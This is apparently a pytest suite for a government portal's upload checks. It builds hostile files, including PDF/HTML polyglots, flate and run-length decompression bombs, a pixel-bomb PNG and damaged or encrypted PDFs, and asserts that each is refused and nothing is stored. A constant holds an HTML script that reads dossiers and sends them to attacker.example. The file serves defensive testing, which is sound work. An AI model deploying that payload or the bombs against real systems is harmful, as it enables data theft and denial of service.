"""Hostile uploads (issue 18, item 13): the structural check every upload path goes through.

The hostile files are built here: a PDF/HTML polyglot (HTML after %%EOF, and HTML in a comment
at the head), a flate bomb (zlib of 200 MB of zeros inside a PDF stream), a truncated PDF, an
encrypted PDF (written by pypdf), a PNG with HTML appended, an image whose header claims 100 million
pixels. Each is refused with a code that names what is wrong, through the citizen's API and
page, the desk's scans and the result drafts, and nothing is stored (no row, no blob, no file);
an image is kept re-encoded (the HTML tail is gone), and served files stay typed and not sniffed.
"""

from __future__ import annotations

import base64
import io
import tempfile
import tracemalloc
import zlib
from pathlib import Path

import pytest
from flask import request
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfWriter
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.exceptions import ClientDisconnected
from werkzeug.formparser import MultiPartParser

from portal.extensions import db
from portal.messages import MESSAGES
from portal.models import Dossier, DossierFile, FileBlob
from portal.operations import pdf_check, uploads
from portal.operations.dossiers import DossierError
from portal.request_body import upload_bytes
from portal.storage import read_blob
from tests.conftest import PASSWORD, csrf_token_from
from tests.integration.filing_helpers import PDF, full_store, pdf, png, procedure, valid_data
from tests.integration.lifecycle_helpers import act, build_office, new_submitted, vn
from tests.integration.office_helpers import fast_passwords  # noqa: F401

HTML = (b"<!DOCTYPE html><html><body><script>fetch('/api/v1/dossiers').then(r => r.text())"
        b".then(t => fetch('https://attacker.example/?' + t))</script></body></html>")


# ---------------------------------------------------------------------------------------------
# The hostile files


def pdf_with_stream(stream: bytes, filters: bytes = b"") -> bytes:
    """A one-page PDF whose page content is ``stream`` as stored (``filters``: e.g. /FlateDecode)."""
    return pdf_of([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
                   b"<< /Length %d %s>>\nstream\n" % (len(stream), filters) + stream + b"\nendstream"])


def pdf_of(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of ``objects`` (numbered from 1) with a correct cross-reference table."""
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref, size = len(out), len(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def deflated_zeros(megabytes: int, wbits: int = zlib.MAX_WBITS) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
    zeros = bytes(1024 * 1024)
    return b"".join(compressor.compress(zeros) for _ in range(megabytes)) + compressor.flush()


def flate_bomb(megabytes: int = 200) -> bytes:
    return pdf_with_stream(deflated_zeros(megabytes), b"/Filter /FlateDecode ")


def encrypted_pdf(user_password: str = "") -> bytes:
    """A PDF encrypted with an owner password (opened without one, as viewers do, when
    ``user_password`` is empty)."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password=user_password, owner_password="chu-so-huu")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_bomb(side: int = 10_000) -> bytes:
    """A valid 1-bit PNG of ``side`` x ``side`` pixels (100 million), a few kilobytes long."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    compressor = zlib.compressobj(9)
    row = bytes(1 + side // 8)
    idat = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    header = side.to_bytes(4, "big") * 2 + b"\x01\x00\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


POLYGLOT_TAIL = PDF + HTML
POLYGLOT_HEAD = PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%" + HTML + b"\n", 1)
TRUNCATED = pdf("cut", padding=4000)[:2000]
DAMAGED = b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"
PNG_HTML = png(4, 3) + HTML

HOSTILE = {
    "polyglot-tail": (POLYGLOT_TAIL, "file_has_markup"),
    "polyglot-head": (POLYGLOT_HEAD, "file_has_markup"),
    "flate-bomb": (flate_bomb(), "pdf_inflates_too_much"),
    # the same bomb as raw deflate (no zlib header), and behind a text encoding in a filter chain
    "raw-deflate-bomb": (pdf_with_stream(deflated_zeros(200, -zlib.MAX_WBITS), b"/Filter /FlateDecode "),
                         "pdf_inflates_too_much"),
    "chained-bomb": (pdf_with_stream(base64.a85encode(deflated_zeros(200), adobe=True),
                                     b"/Filter [/ASCII85Decode /FlateDecode] "), "pdf_inflates_too_much"),
    "truncated": (TRUNCATED, "pdf_truncated"),
    "damaged": (DAMAGED, "pdf_unreadable"),
    "encrypted": (encrypted_pdf(), "pdf_encrypted"),
    "png-bomb": (png_bomb(), "image_too_many_pixels"),
    "truncated-png": (png(40, 40)[:60], "image_unreadable"),
}


# ---------------------------------------------------------------------------------------------
# The checks themselves


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_each_hostile_file_is_refused_with_a_code_naming_it(name):
    data, code = HOSTILE[name]
    content_type = "image/png" if data.startswith(b"\x89PNG") else "application/pdf"
    with pytest.raises(DossierError) as refused:
        uploads.checked_content(data, content_type)
    assert refused.value.code == code and refused.value.status == 422


def test_the_flate_bomb_is_small_on_disk_and_counted_only_up_to_the_cap():
    bomb = flate_bomb()
    assert len(bomb) < 1024 * 1024  # 200 MB of zeros in a few hundred kilobytes
    with pytest.raises(pdf_check.PdfRefused) as refused:
        pdf_check.check_pdf(bomb)
    assert refused.value.params == {"limit": pdf_check.MAX_INFLATED_BYTES // (1024 * 1024)}
    # under the cap the same construction passes: the cap, not the filter, refuses it
    assert uploads.checked_content(flate_bomb(megabytes=2), "application/pdf")


def test_good_files_pass_and_a_pdf_is_kept_as_sent():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    for good in (PDF, pdf("x", padding=10_000), out.getvalue(), PDF + b"giay-to"):
        assert uploads.checked_content(good, "application/pdf") == good


def test_a_png_with_html_appended_is_kept_re_encoded_without_it():
    stored = uploads.checked_content(PNG_HTML, "image/png")
    assert HTML not in stored and b"<script" not in stored and b"<html" not in stored.lower()
    before, after = Image.open(io.BytesIO(PNG_HTML)), Image.open(io.BytesIO(stored))
    assert after.format == "PNG" and after.size == before.size and after.convert("RGB").tobytes() == before.convert("RGB").tobytes()


def test_a_jpeg_loses_its_exif_but_keeps_its_orientation():
    image = Image.new("RGB", (40, 20), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "May anh cua cong dan"
    exif[0x0112] = 6  # rotate 90 degrees on display
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes())
    stored = uploads.checked_content(out.getvalue(), "image/jpeg")
    kept = Image.open(io.BytesIO(stored))
    assert kept.format == "JPEG" and kept.size == (20, 40) and b"May anh" not in stored and not kept.getexif()
    plain = io.BytesIO()
    image.save(plain, "JPEG", quality=75)
    assert Image.open(io.BytesIO(uploads.checked_content(plain.getvalue(), "image/jpeg"))).size == (40, 20)


# ---------------------------------------------------------------------------------------------
# Every upload path: refused, nothing stored


@pytest.fixture
def office(make_user, fast_passwords):  # noqa: F811
    return build_office(make_user, procedure("LC-05"))


def token(client, user) -> dict:
    response = client.post("/api/v1/auth/token", json={"username": user.username, "password": PASSWORD})
    return {"Authorization": f"Bearer {response.get_json()['token']}"}


def stored(app) -> tuple[int, int, set[Path]]:
    """(file rows, blob rows, files on disk): what an upload could leave behind."""
    db.session.expire_all()
    return (db.session.scalar(select(func.count(DossierFile.id))), db.session.scalar(select(func.count()).select_from(
        FileBlob)), {p for p in Path(app.config["STORAGE_DIR"]).rglob("*") if p.is_file()})


def attach(client, headers, dossier_id, document, content, name="giay-to.pdf"):
    return client.post(f"/api/v1/dossiers/{dossier_id}/attachments", headers=headers,
                       content_type="multipart/form-data",
                       data={"document": document, "file": (io.BytesIO(content), name)})


def new_draft(client, headers) -> int:
    response = client.post("/api/v1/dossiers", headers=headers,
                           json={"procedure": "LC-05", "data": valid_data(procedure("LC-05"))})
    assert response.status_code == 201
    return response.get_json()["id"]


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_the_citizens_api_refuses_and_stores_nothing(app, client, office, name):
    data, code = HOSTILE[name]
    headers = token(client, office.citizen)
    dossier_id = new_draft(client, headers)
    key = procedure("LC-05").documents[0]["key"]
    before = stored(app)
    response = attach(client, headers, dossier_id, key, data)
    assert response.status_code == 422, response.get_json()
    assert response.get_json()["error"]["code"] == code
    assert stored(app) == before


def page_upload(client, pages, office):
    """The citizen on the documents page of a new draft: a function that uploads ``content`` to
    its first document through the page (with the page's CSRF token)."""
    dossier_id = new_draft(client, token(client, office.citizen))
    key = procedure("LC-05").documents[0]["key"]
    pages.login(office.citizen.username, PASSWORD)
    csrf = csrf_token_from(client.get(f"/ho-so/{dossier_id}/giay-to").get_data(as_text=True))

    def upload(content: bytes, **options):
        return client.post(f"/ho-so/{dossier_id}/giay-to/{key}", content_type="multipart/form-data",
                           data={"csrf_token": csrf, "file": (io.BytesIO(content), "don.pdf")}, **options)

    return upload


def test_the_citizens_page_refuses_a_polyglot_with_a_clear_message(app, client, pages, office):
    upload = page_upload(client, pages, office)
    before = stored(app)
    response = upload(POLYGLOT_TAIL, follow_redirects=True)
    assert "mã trang web (HTML hoặc script)" in response.get_data(as_text=True)
    assert stored(app) == before


def test_the_citizens_page_on_a_full_disk_says_to_try_again_later(app, client, pages, office, monkeypatch):
    upload = page_upload(client, pages, office)
    before = stored(app)
    full_store(monkeypatch)
    response = upload(pdf("full"))
    monkeypatch.undo()
    assert response.status_code == 503 and response.headers["Retry-After"] == "300"
    assert "không lưu được tệp" in response.get_data(as_text=True)
    assert stored(app) == before


def test_the_desks_scans_refuse_a_flate_bomb_and_register_nothing(app, client, office):
    docs = office.procedure.documents
    required = [d["key"] for d in docs if d.get("required")]
    body = {"procedure": office.procedure.code, "channel": "in_person",
            "applicant": {"full_name": "Nguyễn Thị Hồng Nhung", "id_number": "012190123456",
                          "phone": "0912345678", "address": "Phường Tân Phong, tỉnh Lai Châu"},
            "scans": [{"document": required[0], "filename": "scan.pdf",
                       "content_base64": base64.b64encode(flate_bomb()).decode()}],
            "paper_documents": required[1:]}
    dossiers_before, before = db.session.scalar(select(func.count(Dossier.id))), stored(app)
    response = client.post("/api/v1/office/dossiers", json=body, headers=token(client, office.officer))
    assert response.status_code == 422 and response.get_json()["error"]["code"] == "pdf_inflates_too_much"
    assert "vượt quá 100 MB" in response.get_json()["error"]["message"]
    assert db.session.scalar(select(func.count(Dossier.id))) == dossiers_before and stored(app) == before


@pytest.mark.parametrize("name", ["encrypted", "polyglot-tail", "truncated"])
def test_a_result_draft_is_refused_and_the_dossier_unchanged(app, client, office, name):
    data, code = HOSTILE[name]
    dossier = new_submitted(office, vn(2026, 11, 23, 8, 0))
    act(dossier.id, "accept", office.officer, vn(2026, 11, 23, 8, 30))
    act(dossier.id, "forward", office.officer, vn(2026, 11, 23, 9, 0))
    act(dossier.id, "forward", office.unit_leader, vn(2026, 11, 23, 9, 30))
    db.session.commit()
    version, before = db.session.get(Dossier, dossier.id).version, stored(app)
    response = client.post(f"/api/v1/dossiers/{dossier.id}/actions/propose_result",
                           headers=token(client, office.specialist),
                           json={"version": version, "draft_base64": base64.b64encode(data).decode(),
                                 "draft_name": "du-thao.pdf"})
    assert response.status_code == 422 and response.get_json()["error"]["code"] == code
    db.session.expire_all()
    after = db.session.get(Dossier, dossier.id)
    assert after.version == version and not after.result_proposed and stored(app) == before


# ---------------------------------------------------------------------------------------------
# What is served


def test_an_image_is_served_re_encoded_typed_and_not_sniffed(app, client, pages, office):
    headers = token(client, office.citizen)
    dossier_id = new_draft(client, headers)
    docs = procedure("LC-05").documents
    for doc in docs:
        content = PNG_HTML if doc is docs[0] else pdf(doc["key"])
        assert attach(client, headers, dossier_id, doc["key"], content).status_code == 201
    assert client.post(f"/api/v1/dossiers/{dossier_id}/submit", headers=headers).status_code == 200
    image = db.session.scalar(select(DossierFile).where(DossierFile.dossier_id == dossier_id,
                                                        DossierFile.document_key == docs[0]["key"]))
    document = db.session.scalar(select(DossierFile).where(DossierFile.dossier_id == dossier_id,
                                                           DossierFile.document_key == docs[-1]["key"]))
    assert image.blob.content_type == "image/png" and HTML not in read_blob(image.blob_sha256)

    api = client.get(f"/api/v1/dossiers/{dossier_id}/files/{image.id}", headers=headers)
    assert api.status_code == 200 and api.mimetype == "image/png" and HTML not in api.data
    assert api.headers["Content-Disposition"].startswith("attachment")
    assert api.headers["X-Content-Type-Options"] == "nosniff"
    pages.login(office.citizen.username, PASSWORD)
    page = client.get(f"/ho-so/tep/{image.id}")
    assert page.status_code == 200 and page.mimetype == "image/png"
    assert page.headers["Content-Disposition"].startswith("attachment")
    assert page.headers["X-Content-Type-Options"] == "nosniff"
    pages.logout()

    pages.login(office.officer.username, PASSWORD)
    for row, content_type in ((image, "image/png"), (document, "application/pdf")):
        seen = client.get(f"/mot-cua/ho-so/{dossier_id}/tep/{row.id}")
        assert seen.status_code == 200 and seen.mimetype == content_type
        assert seen.headers["Content-Disposition"].startswith("inline")
        assert seen.headers["X-Content-Type-Options"] == "nosniff"



def test_a_request_with_files_is_parsed_in_memory_up_to_the_setting(app):
    """Werkzeug spools a file part past 500 KB to a temporary file; the portal keeps a request of
    at most UPLOAD_MEMORY_BYTES in memory (each upload is read whole anyway), a larger one on disk."""
    content = pdf("spool", padding=600 * 1024)
    app.config["UPLOAD_MEMORY_BYTES"] = 1024 * 1024
    with app.test_request_context("/", method="POST", content_type="multipart/form-data",
                                  data={"file": (io.BytesIO(content), "a.pdf")}):
        stream = request.files["file"].stream
        assert isinstance(stream, io.BytesIO) and stream.read() == content
    app.config["UPLOAD_MEMORY_BYTES"] = 512 * 1024
    with app.test_request_context("/", method="POST", content_type="multipart/form-data",
                                  data={"file": (io.BytesIO(content), "a.pdf")}):
        stream = request.files["file"].stream
        assert not isinstance(stream, io.BytesIO) and stream.read() == content


class _RecordedInput(io.BytesIO):
    """A WSGI input that records the size of every read (a server answers at most what it has)."""

    def __init__(self, data: bytes, at_most: int | None = None):
        super().__init__(data)
        self.reads: list[int] = []
        self.at_most = at_most

    def read(self, size=-1):
        self.reads.append(size)
        return super().read(size if self.at_most is None or size < 0 else min(size, self.at_most))


def test_a_request_parsed_in_memory_is_read_from_the_server_in_one_call(app):
    """Not 64 KiB at a time (Werkzeug's parser), which gunicorn answers by copying its read-ahead
    buffer twice per call; a server that answers in pieces is read until the body is whole."""
    content = pdf("whole", padding=300 * 1024)
    for at_most, expected in ((None, 1), (100 * 1024, 4)):
        with app.test_request_context("/", method="POST", content_type="multipart/form-data",
                                      data={"document": "cccd", "file": (io.BytesIO(content), "a.pdf")}):
            body = request.environ["wsgi.input"].read()
            recorded = request.environ["wsgi.input"] = _RecordedInput(body, at_most)
            assert request.files["file"].read() == content and request.form["document"] == "cccd"
            assert len(recorded.reads) == expected and recorded.reads[0] == len(body)
            assert request.get_data() == b""  # the body is not kept twice once parsed


def test_a_request_in_memory_is_split_without_werkzeugs_parser(app, monkeypatch):
    """A plain multipart body parsed in memory is split directly (tests/unit/test_multipart_split.py
    holds the two to the same answers); one spooled to disk still goes through Werkzeug's parser."""
    content = pdf("split", padding=300 * 1024)
    calls = []
    monkeypatch.setattr(MultiPartParser, "parse", lambda *args: calls.append(args) or (MultiDict(), MultiDict()))
    with app.test_request_context("/", method="POST", content_type="multipart/form-data",
                                  data={"document": "cccd", "file": (io.BytesIO(content), "a.pdf")}):
        assert request.files["file"].read() == content and request.form["document"] == "cccd"
    assert calls == []
    app.config["UPLOAD_MEMORY_BYTES"] = 100 * 1024
    with app.test_request_context("/", method="POST", content_type="multipart/form-data",
                                  data={"document": "cccd", "file": (io.BytesIO(content), "a.pdf")}):
        assert "file" not in request.files
    assert len(calls) == 1


def test_a_body_shorter_than_its_length_is_a_bad_request(app):
    content = pdf("short", padding=10 * 1024)
    with app.test_request_context("/", method="POST", content_type="multipart/form-data",
                                  data={"file": (io.BytesIO(content), "a.pdf")}):
        body = request.environ["wsgi.input"].read()
        request.environ["wsgi.input"] = io.BytesIO(body[:-500])
        with pytest.raises(ClientDisconnected):
            request.files  # noqa: B018 (parsing is what fails)


def test_the_pdf_check_does_not_copy_the_upload():
    """The check reads the upload where it lies: a 1 MB file whose bulk is a comment the parser
    never reads allocates a fraction of its size (a copy of the whole file was once made for
    pypdf's size checks)."""
    bulk = pdf("bulk", comment=1024 * 1024)
    pdf_check.check_pdf(bulk)  # valid as built
    peak, refusal = peak_memory_of_check(bulk)
    assert refusal is None and peak < 256 * 1024, peak


def peak_memory_of_check(data: bytes) -> tuple[int, pdf_check.PdfRefused | None]:
    """The most memory (Python's allocations) the check of ``data`` held at once, and its refusal."""
    tracemalloc.start()
    try:
        pdf_check.check_pdf(data)
        refusal = None
    except pdf_check.PdfRefused as refused:
        refusal = refused
    finally:
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak, refusal


def test_an_upload_in_memory_is_handed_over_without_a_copy():
    content = pdf("memory", padding=200 * 1024)
    in_memory = FileStorage(io.BytesIO(content), "a.pdf")
    data = upload_bytes(in_memory, 1024)  # the limit is the caller's to check: the bytes are there
    assert data == content and data is in_memory.stream.getvalue()
    with tempfile.TemporaryFile() as spooled:
        spooled.write(content)
        spooled.seek(0)
        assert upload_bytes(FileStorage(spooled, "a.pdf"), 1024) == content[:1025]  # read no further


# ---------------------------------------------------------------------------------------------
# The page tree and the objects (qpdf through pikepdf parses; the rules are the portal's)


def pages_pdf(pages: int, mediabox: bytes | None = b"[0 0 595 842]", inherited: bytes = b"") -> bytes:
    """``pages`` pages of the size ``mediabox`` (none when ``None``) under one node, whose own
    entries are ``inherited`` (e.g. a size its pages inherit)."""
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(pages))
    size = b"" if mediabox is None else b"/MediaBox %s " % mediabox
    return pdf_of([CATALOG, b"<< /Type /Pages /Kids [%s] /Count %d %s>>" % (kids, pages, inherited)]
                  + [b"<< /Type /Page /Parent 2 0 R %s>>" % size] * pages)


STRUCTURE = {
    "no page": (pages_pdf(0), "pdf_no_pages"),
    "a page of no width": (pages_pdf(1, b"[0 0 0 842]"), "pdf_unreadable"),
    "a page upside down": (pages_pdf(1, b"[0 842 595 0]"), "pdf_unreadable"),
    "too many pages": (pages_pdf(pdf_check.MAX_PAGES + 1), "pdf_too_many_pages"),
    "a page with no size": (pages_pdf(1, mediabox=None), "pdf_unreadable"),
    "a page tree that loops": (pdf_of([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                       b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]), "pdf_unreadable"),
    "a page tree node listed twice": (pdf_of([CATALOG, b"<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>",
                                              b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
                                              b"<< /Type /Page /MediaBox [0 0 595 842] >>"]), "pdf_unreadable"),
    "no catalog": (pdf_of([b"<< /Type /Pages /Kids [] /Count 0 >>"], trailer=b""), "pdf_unreadable"),
    "a user password": (encrypted_pdf(user_password="mat-khau"), "pdf_encrypted"),
    "an unknown filter": (pdf_with_stream(b"abc", b"/Filter /NoSuchDecode "), "pdf_unreadable"),
    "an encrypted stream": (pdf_with_stream(b"abc", b"/Filter /Crypt "), "pdf_encrypted"),
    "a run-length bomb": (pdf_with_stream(b"\x81\x00" * 900_000 + b"\x80", b"/Filter /RunLengthDecode "),
                          "pdf_inflates_too_much"),
}


@pytest.mark.parametrize("name", sorted(STRUCTURE))
def test_a_pdf_whose_structure_breaks_a_rule_is_refused_with_its_code(name):
    data, code = STRUCTURE[name]
    with pytest.raises(pdf_check.PdfRefused) as refused:
        pdf_check.check_pdf(data)
    assert refused.value.code == code


def test_pages_and_streams_within_the_rules_pass():
    pdf_check.check_pdf(pages_pdf(pdf_check.MAX_PAGES))
    pdf_check.check_pdf(pages_pdf(2, mediabox=None, inherited=b"/MediaBox [0 0 595 842] "))
    pdf_check.check_pdf(pdf_with_stream(b"\x81\x00" * 1000 + b"\x80", b"/Filter /RunLengthDecode "))
    pdf_check.check_pdf(pdf_with_stream(base64.a85encode(zlib.compress(b"q Q " * 1000), adobe=True),
                                        b"/Filter [/ASCII85Decode /FlateDecode] "))
    pdf_check.check_pdf(pdf_with_stream(b"616263>", b"/Filter /ASCIIHexDecode "))


def test_a_pdf_of_more_objects_than_the_limit_is_refused(monkeypatch):
    data = pages_pdf(3)
    pdf_check.check_pdf(data)
    monkeypatch.setattr(pdf_check, "MAX_OBJECTS", 4)
    with pytest.raises(pdf_check.PdfRefused) as refused:
        pdf_check.check_pdf(data)
    assert refused.value.code == "pdf_too_complex"


def test_a_scanned_page_is_checked_without_copying_its_image():
    """The image of a scanned page is kept encoded: its bytes are not read out of the upload
    (a 1 MB JPEG stream allocates a fraction of its size)."""
    scan = pdf_with_stream(b"\xff\xd8" + bytes(1024 * 1024) + b"\xff\xd9", b"/Filter /DCTDecode ")
    pdf_check.check_pdf(scan)
    peak, refusal = peak_memory_of_check(scan)
    assert refusal is None and peak < 256 * 1024, peak


def test_a_page_listed_many_times_is_counted_without_copying_it():
    """One page object listed 300,000 times in a 2 MB file: counted up to the limit and refused
    (qpdf's page helpers would copy the page each time: 1.4 s and 600 MB)."""
    data = pdf_of([CATALOG, b"<< /Type /Pages /Kids [" + b"3 0 R " * 300_000 + b"] /Count 300000 >>",
                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"])
    peak, refusal = peak_memory_of_check(data)
    assert refusal is not None and refusal.code == "pdf_too_many_pages" and peak < 4 * 1024 * 1024, peak


SOUND_PDFS = [PDF, pages_pdf(3), pdf_with_stream(zlib.compress(b"q Q " * 500), b"/Filter /FlateDecode "),
              pages_pdf(2, mediabox=None, inherited=b"/MediaBox [0 0 595 842] ")]


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.data())
def test_a_damaged_pdf_is_passed_or_refused_with_a_known_code_and_never_breaks_the_check(data):
    """Bytes changed, cut out or put in anywhere: the parser (C++, on hostile input) never takes
    the worker down and never raises anything but a refusal that names what is wrong."""
    damaged = bytearray(data.draw(st.sampled_from(SOUND_PDFS)))
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(damaged)))
        cut = data.draw(st.integers(0, 64))
        damaged[at:at + cut] = data.draw(st.binary(max_size=16))
    try:
        pdf_check.check_pdf(bytes(damaged))
    except pdf_check.PdfRefused as refused:
        assert refused.code in MESSAGES  # a refusal a person can read
